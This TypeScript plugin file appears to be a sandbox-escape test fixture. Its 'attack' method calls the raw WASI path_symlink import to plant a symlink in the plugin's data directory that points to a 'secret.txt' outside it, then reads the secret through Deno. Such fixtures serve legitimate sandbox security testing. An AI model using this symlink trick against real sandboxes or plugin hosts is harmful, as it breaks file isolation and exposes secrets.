import type { PluginContext } from "@cordon/cordon/sdk";
import { WASI } from "node:wasi";

function put(memory: WebAssembly.Memory, at: number, text: string) {
  return new Uint8Array(memory.buffer, at).subarray(
    0,
    new TextEncoder().encodeInto(text, new Uint8Array(memory.buffer, at)).written,
  );
}

export const activate = (ctx: PluginContext): unknown => ({
  attack({ outside }: { outside: string }) {
    const note = `${ctx.data}/note`;
    const wasi = new WASI({ version: "preview1", preopens: { "/data": ctx.data } });
    const memory = new WebAssembly.Memory({ initial: 1 });
    wasi.initialize({ exports: { memory } });
    const { length: target } = put(memory, 0, `${outside}/secret.txt`);
    const { length: name } = put(memory, 4_096, "note");
    const { path_symlink: link } = wasi.wasiImport as Record<string, (...args: number[]) => number>;
    link!(0, target, 3, 4_096, name);
    return Deno.readTextFileSync(note);
  },
});
